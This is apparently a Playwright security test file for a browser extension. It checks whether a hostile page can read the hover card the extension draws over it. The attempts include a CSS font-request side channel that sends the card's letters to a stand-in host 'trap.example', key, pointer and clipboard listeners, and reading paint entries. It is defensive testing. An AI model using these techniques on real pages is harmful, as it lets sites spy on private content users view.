/** Attempts of a page to read the card over it. */
import type { Page } from "@playwright/test";
import { cardOf, restOn } from "../e2e/hovering";
import { examinationPasses, settled } from "../e2e/waits";
import { boxOf, cardOver, noted, readBody, secret, type CardOver } from "./card-over";
import { cardReads, inPage, pastClosedRoot, sentElsewhere } from "./card-reads";
import { attackGroup, type Attack } from "./group";
import type { World } from "./world";

type Place = CardOver<Page>;

const prepare = async (world: World): Promise<Place> => overPage(await world.openMail(readBody));

const overPage = (page: Page): Place =>
  cardOver({
    page,
    leave: () => page.mouse.move(600, 700, { steps: 4 }),
    rest: () => restOn(page, "#one"),
    cardText: async () =>
      (await cardOf(page)
        ?.evaluate(() => document.body.innerText)
        .catch(() => "")) ?? "",
  });

/** Attacks tried in Chromium only: they need real input, the log of requests, or another page. */
const inChromiumOnly: Attack<Place>[] = [
  {
    name: "the page detects letters of the card by font requests",
    without: ["card-frame", "host-rules"],
    async attempt(place) {
      const asked: string[] = [];
      place.page.on("request", (request) => request.url().includes("/font-") && asked.push(request.url().slice(-1)));
      await place.page.evaluate(() => {
        const style = document.createElement("style");
        style.id = "fonts";
        const face = (letter: string) =>
          `@font-face{font-family:Probe;src:url("http://trap.example/font-${letter}");unicode-range:U+${letter.charCodeAt(0).toString(16)}}`;
        style.textContent = `${[..."OkfNRb"].map(face).join("")} html>div,html>div *{font-family:Probe!important}`;
        document.head.append(style);
      });
      await place.withCard(true);
      await place.page.evaluate(() => document.fonts.ready.then(() => undefined));
      await place.page.evaluate(() => document.querySelector("#fonts")?.remove());
      return asked.length === 0 ? null : `fonts were requested for the letters ${asked.join()}`;
    },
  },
  {
    name: "the page listens to keys typed in the card",
    without: inPage,
    async attempt(place) {
      const { page } = place;
      await place.withCard();
      const { x, y, width } = await boxOf(page);
      await page.mouse.move(x + Math.min(width - 4, 300), y + 8, { steps: 6 });
      await examinationPasses(page);
      await page.mouse.click(x + Math.min(width - 4, 300), y + 8);
      // A frame receives the keys some milliseconds after the click, sooner than a user types. Without a frame the focus stays.
      await page.waitForFunction(() => document.activeElement !== document.body, null, { timeout: 1_000 }).catch(() => undefined);
      await page.keyboard.type("q");
      return noted(page, /^typed: q/);
    },
  },
  {
    name: "the page reads the largest painted text (largest-contentful-paint)",
    without: inPage,
    async attempt(_place, world) {
      // Uses a fresh page: after a click, the browser reports no more largest paints.
      const page = await world.openMail(readBody);
      await overPage(page).withCard();
      const drawn = await page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const texts: string[] = [];
            // `getEntries` returns the base type, whatever is observed.
            const note = (entry: PerformanceEntry & { element?: Element }) => texts.push(entry.element?.textContent ?? "");
            new PerformanceObserver((list) => list.getEntries().forEach(note)).observe({
              type: "largest-contentful-paint",
              buffered: true,
            });
            setTimeout(() => resolve(texts.join("; ")), 400);
          }),
      );
      await page.close();
      return drawn.includes(secret) ? drawn : null;
    },
  },
  {
    name: "the page tracks the pointer over the card",
    without: inPage,
    async attempt(place) {
      const { page } = place;
      await place.withCard();
      const { x, y, width, height } = await boxOf(page);
      await page.mouse.move(x + width / 2, y + height / 2, { steps: 8 });
      return noted(page, /^over: div .*Okafor/);
    },
  },
  {
    name: "the page listens to text copied from the card",
    without: inPage,
    async attempt(place) {
      const { page } = place;
      await place.withCard();
      const { x, y, height } = await boxOf(page);
      await page.mouse.move(x + 2, y + Math.min(height, 30) / 2, { steps: 6 });
      await page.evaluate(() => {
        const host = document.querySelector("html > div");
        if (host !== null) getSelection()?.selectAllChildren(host);
      });
      await page.keyboard.press("Control+C");
      return noted(page, /^copied: .*Okafor/);
    },
  },
  {
    name: "the page reads the focused element of the card",
    without: ["in-shadow"],
    async attempt(place, { extension }) {
      const { page } = place;
      await place.withCard();
      const { x, y } = await boxOf(page);
      await page.mouse.move(x + 300, y + 8, { steps: 6 });
      await examinationPasses(page);
      await page.mouse.click(x + 300, y + 8);
      await settled(extension);
      return (await page.evaluate(() => document.activeElement?.localName)) === "iframe" ? "the frame" : null;
    },
  },
];

attackGroup({
  heading: "Card content read by a page",
  title: "no page reads the card over it",
  prepare,
  attacks: [...cardReads, ...pastClosedRoot, ...inChromiumOnly, sentElsewhere],
});
